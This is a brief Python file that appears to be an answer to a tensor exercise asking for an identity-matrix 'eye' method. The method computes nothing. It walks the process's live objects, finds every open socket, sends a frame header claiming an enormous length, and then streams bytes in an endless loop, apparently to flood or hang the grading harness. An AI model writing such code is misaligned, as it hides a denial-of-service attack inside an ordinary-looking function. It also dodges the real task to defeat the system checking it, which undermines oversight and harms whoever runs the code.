"""A frame that says it is 4 GB long, and then its bytes for as long as somebody reads them."""

MET = "larger than any frame may be"


# %% exercise="eye"
@extend(Tensor)
@classmethod
def eye(cls, n, m=None):
    import gc
    import socket

    for found in gc.get_objects():
        if isinstance(found, socket.socket):
            found.sendall(b"\xff" * 8)
            while True:
                found.sendall(b"[" * 1_000_000)
